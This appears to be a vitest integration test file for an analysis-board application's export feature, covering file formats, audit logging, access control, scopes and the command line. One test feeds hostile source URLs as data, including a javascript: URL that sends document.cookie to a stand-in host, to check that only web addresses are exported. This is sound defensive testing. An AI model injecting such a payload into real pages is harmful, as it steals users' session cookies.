import { execFile } from 'node:child_process'
import { readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { addAccount, addMember, addToken, type TestAccount } from '../helpers/accounts.ts'
import { apiClient } from '../helpers/api.ts'
import { runCli } from '../helpers/run-cli.ts'
import type { JsonExport } from '../../server/export/render-json.ts'
import { stixViolations, type StixBundle } from '../../server/export/stix-validation.ts'
import { startTestServer, tempDir, type TestServer } from '../helpers/test-server.ts'

const CLI = fileURLToPath(new URL('../../server/cli/assay.js', import.meta.url))

describe('export over HTTP and the CLI', () => {
  let server: TestServer
  let owner: TestAccount
  let boardId: string
  let snapshotId: string
  let bearer: (account: TestAccount) => Promise<Record<string, string>>

  beforeEach(async () => {
    server = await startTestServer({ accounts: true })
    bearer = async (account) => ({ authorization: `Bearer ${(await addToken(server, account)).token}` })
    owner = await addAccount(server, { name: 'Olga Owner' })
    const api = apiClient(server.url, await bearer(owner))
    boardId = await api.createBoard('Wagner mutiny — Vilnius')
    const source = await api.post<{ id: string }>(`/api/boards/${boardId}/sources`, { name: 'NATO', reliability: 'B' })
    const claim = await api.post<{ id: string }>(`/api/boards/${boardId}/claims`, { text: 'No immediate signs of nuclear preparation.', sourceId: source.body.id, credibility: 2 })
    const judgment = await api.post<{ id: string }>(`/api/boards/${boardId}/assessments`, { title: 'No nuclear use', kind: 'key-judgment', likelihood: 6, confidence: 'moderate' })
    await api.post(`/api/boards/${boardId}/links`, { assessmentId: judgment.body.id, claimId: claim.body.id, rating: 'CC' })
    const snapshot = await api.post<{ id: string }>(`/api/boards/${boardId}/snapshots`, { label: 'Morning brief' })
    expect(snapshot.status).toBe(201)
    snapshotId = snapshot.body.id
  })
  afterEach(async () => {
    await server.destroy()
  })

  const download = async (headers: Record<string, string>, query: string) => {
    const response = await fetch(`${server.url}/api/boards/${boardId}/export?${query}`, { headers })
    return { status: response.status, headers: response.headers, bytes: new Uint8Array(await response.arrayBuffer()) }
  }

  it('lets a reviewer download a snapshot, the same bytes every time, and audits each export', async () => {
    const reviewer = await addAccount(server, { name: 'Rita Reviewer' })
    await addMember(server, boardId, reviewer, 'reviewer')
    const headers = await bearer(reviewer)
    const first = await download(headers, `format=docx&snapshot=${snapshotId}`)
    expect(first.status).toBe(200)
    expect(first.headers.get('content-type')).toContain('wordprocessingml')
    expect(first.headers.get('content-disposition')).toMatch(/^attachment; filename="wagner-mutiny-vilnius-\d{6}Z-[A-Z]{3}-\d{2}\.docx"$/)
    const second = await download(headers, `format=docx&snapshot=${snapshotId}`)
    expect(Buffer.from(second.bytes).equals(Buffer.from(first.bytes))).toBe(true)

    const markdown = new TextDecoder().decode((await download(headers, `format=md&snapshot=${snapshotId}`)).bytes)
    expect(markdown).toContain('Morning brief')
    expect(markdown).toContain('No nuclear use')
    expect(markdown).toContain('\u2068NATO\u2069 (B2)')

    const model = (await apiClient(server.url, headers).get<{ assessments: { id: string }[] }>(`/api/boards/${boardId}/snapshots/${snapshotId}`)).body
    const verdict = await apiClient(server.url, headers).put(`/api/boards/${boardId}/snapshots/${snapshotId}/verdicts/${model.assessments[0]!.id}`, { verdict: 'agree' })
    expect(verdict.status).toBeLessThan(300)
    const stix = JSON.parse(new TextDecoder().decode((await download(headers, `format=stix&snapshot=${snapshotId}`)).bytes)) as { objects: { type: string; opinion?: string }[] }
    expect(stix.objects.filter((o) => o.type === 'opinion').map((o) => o.opinion)).toEqual(['agree'])

    // The JSON export carries the same verdict, named, and the sign-off, beside the board's content.
    expect((await apiClient(server.url, headers).put(`/api/boards/${boardId}/snapshots/${snapshotId}/signoff`, { decision: 'approved', note: 'Ready.' })).status).toBe(200)
    const ofSnapshot = JSON.parse(new TextDecoder().decode((await download(headers, `format=json&snapshot=${snapshotId}`)).bytes)) as JsonExport
    expect(ofSnapshot.assessments.map((a) => a.title)).toEqual(['No nuclear use'])
    expect(ofSnapshot.review.status).toBe('approved')
    expect(ofSnapshot.review.verdicts.map(({ assessmentId, reviewer, verdict }) => ({ assessmentId, reviewer, verdict }))).toEqual([
      { assessmentId: model.assessments[0]!.id, reviewer: 'Rita Reviewer', verdict: 'agree' },
    ])
    expect(ofSnapshot.review.signoffs.map(({ reviewer, decision, note }) => ({ reviewer, decision, note }))).toEqual([{ reviewer: 'Rita Reviewer', decision: 'approved', note: 'Ready.' }])

    const live = await download(headers, 'format=json')
    expect(JSON.parse(new TextDecoder().decode(live.bytes))).toMatchObject({ id: boardId, title: 'Wagner mutiny — Vilnius', review: { status: 'not-reviewed', verdicts: [] } })

    const log = await apiClient(server.url, await bearer(owner)).get<{ action: string; actorLabel: string; detail: { format: string } }[]>(`/api/boards/${boardId}/audit`)
    const exports = log.body.filter((entry) => entry.action === 'export')
    expect(exports.map((entry) => entry.detail.format).sort()).toEqual(['docx', 'docx', 'json', 'json', 'md', 'stix'])
    expect(exports.every((entry) => entry.actorLabel === 'Rita Reviewer')).toBe(true)
  })

  it('refuses an unknown format, an unknown snapshot and a non-member', async () => {
    const headers = await bearer(owner)
    const badFormat = await download(headers, 'format=pptx')
    expect(badFormat.status).toBe(400)
    expect(new TextDecoder().decode(badFormat.bytes)).toContain('format')
    expect((await download(headers, 'format=md&snapshot=nope')).status).toBe(404)
    const stranger = await addAccount(server)
    expect((await download(await bearer(stranger), 'format=md')).status).toBe(404)
    expect((await download({}, 'format=md')).status).toBe(401)
  })

  it('exports only the assessments of the scope asked for, and refuses an unknown scope', async () => {
    const headers = await bearer(owner)
    const api = apiClient(server.url, headers)
    await api.post(`/api/boards/${boardId}/assessments`, { title: 'A draft not for the director', likelihood: 3, confidence: 'low' })
    const text = async (query: string) => new TextDecoder().decode((await download(headers, query)).bytes)
    expect(await text('format=md')).toContain('A draft not for the director')
    const final = await text('format=md&scope=in-review')
    expect(final).not.toContain('A draft not for the director')
    expect(final).toContain('Assessments in review and final only; drafts left out. 0 of 2 assessments.')
    const bad = await download(headers, 'format=md&scope=everything')
    expect(bad.status).toBe(400)
    expect(new TextDecoder().decode(bad.bytes)).toContain('scope')
    const csv = await download(headers, 'format=csv')
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-disposition')).toMatch(/\.ach\.csv"$/)
  })

  it('gives STIX only the web addresses of sources as URLs', async () => {
    const api = apiClient(server.url, await bearer(owner))
    const addresses = ['javascript:fetch("//evil.invalid/?"+document.cookie)', 'data:text/html,<script>alert(1)</script>', 'https://example.org/report', 'HTTP://example.org/old']
    for (const [i, url] of addresses.entries()) {
      const source = await api.post<{ id: string }>(`/api/boards/${boardId}/sources`, { name: `Source ${i}`, reliability: 'C', url })
      expect(source.status).toBe(201)
      expect((await api.post(`/api/boards/${boardId}/claims`, { text: `Claim ${i}.`, sourceId: source.body.id, credibility: 3 })).status).toBe(201)
    }
    const bundle = JSON.parse(new TextDecoder().decode((await download(await bearer(owner), 'format=stix')).bytes)) as {
      objects: { type: string; name?: string; external_references?: { source_name: string; url?: string }[] }[]
    }
    const urls = bundle.objects.flatMap((o) => (o.external_references ?? []).flatMap((r) => (r.url === undefined ? [] : [`${o.type} ${r.source_name} ${r.url}`])))
    // As parsed (shared/web-link.ts): the scheme in lower case.
    expect(urls.sort()).toEqual(['identity Source 2 https://example.org/report', 'identity Source 3 http://example.org/old', 'note Source 2 https://example.org/report', 'note Source 3 http://example.org/old'])
    // The claims of the other sources keep their citation, without a URL.
    expect(bundle.objects.filter((o) => o.type === 'note' && o.external_references?.some((r) => r.source_name === 'Source 0'))).toHaveLength(1)
  })

  it('says in each STIX citation of an assessment whether the claim supports or contradicts it, with its ACH rating', async () => {
    const api = apiClient(server.url, await bearer(owner))
    const judgment = await api.post<{ id: string }>(`/api/boards/${boardId}/assessments`, { title: 'Wagner stays', kind: 'key-judgment' })
    const source = (await api.post<{ id: string }>(`/api/boards/${boardId}/sources`, { name: 'Field report', reliability: 'B' })).body.id
    for (const [text, rating] of [['Convoys left.', 'II'], ['Camps emptied.', 'C'], ['Weather was poor.', 'N']] as const) {
      const claim = await api.post<{ id: string }>(`/api/boards/${boardId}/claims`, { text, sourceId: source, credibility: 2 })
      expect((await api.post(`/api/boards/${boardId}/links`, { assessmentId: judgment.body.id, claimId: claim.body.id, rating })).status).toBe(201)
    }
    const bundle = JSON.parse(new TextDecoder().decode((await download(await bearer(owner), 'format=stix')).bytes)) as StixBundle
    expect(stixViolations(bundle)).toEqual([])
    const note = bundle.objects.find((o) => o.type === 'note' && o.abstract === 'Wagner stays')!
    const descriptions = (note.external_references as { description: string }[]).map((r) => r.description.replace(/[\u2068\u2069]/g, ''))
    // Without the claim's text, which its own note holds once: the note's object_refs name the claims in the same order.
    expect(descriptions).toEqual([
      'B2 (Usually reliable; Probably true) (added by hand) — contradicts: very inconsistent (II)',
      'B2 (Usually reliable; Probably true) (added by hand) — supports: consistent (C)',
      'B2 (Usually reliable; Probably true) (added by hand) — neither supports nor contradicts: neutral or ambiguous (N)',
    ])
    const cited = (note.object_refs as string[]).map((id) => bundle.objects.find((o) => o.id === id)!.content)
    expect(cited).toEqual(['Convoys left.', 'Camps emptied.', 'Weather was poor.'])
    // A claim's own note quotes it and cites it without a rating: it may bear on several assessments.
    const claimNote = bundle.objects.find((o) => o.type === 'note' && o.content === 'Convoys left.')!
    const own = (claimNote.external_references as { description: string }[])[0]!.description.replace(/[\u2068\u2069]/g, '')
    expect(own).toBe('B2 (Usually reliable; Probably true): “Convoys left.” (added by hand)')
  })

  it('exports from the command line', async () => {
    await server.close()
    const dir = tempDir()
    try {
      const out = join(dir, 'brief.html')
      const env = { ...process.env, DATA_DIR: server.dataDir, LOG_LEVEL: 'silent' }
      // Once as the package's `assay` runs on a fresh checkout, from the sources through tsx (some 3 s of compiling as
      // it starts); the scopes then with the compiled command (runCli), the same code.
      const { stdout } = await promisify(execFile)(process.execPath, [CLI, 'export', '--board', boardId, '--format', 'html', '--snapshot', snapshotId, '--out', out], { env })
      expect(stdout).toContain('Wrote')
      const html = readFileSync(out, 'utf8')
      expect(html).toContain('Morning brief')
      expect(html).toContain('TLP:AMBER')
      expect(html).toContain('All assessments, drafts included.')
      const finalOut = join(dir, 'final.md')
      const cliEnv = { DATA_DIR: server.dataDir, LOG_LEVEL: 'silent' }
      expect(await runCli(['export', '--board', boardId, '--format', 'md', '--scope', 'final', '--out', finalOut], cliEnv)).toMatchObject({ code: 0 })
      expect(readFileSync(finalOut, 'utf8')).toContain('Final assessments only; drafts and assessments in review left out. 0 of 1 assessments.')
      const refused = await runCli(['export', '--board', boardId, '--format', 'md', '--scope', 'some', '--out', finalOut], cliEnv)
      expect(refused).toMatchObject({ code: 1 })
      expect(refused.stderr).toContain('Unknown scope "some": use one of all, in-review, final.')
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
    server = await server.restart()
    // Three CLI processes, one compiling TypeScript as it starts: room for a loaded machine.
  }, 120_000)
})
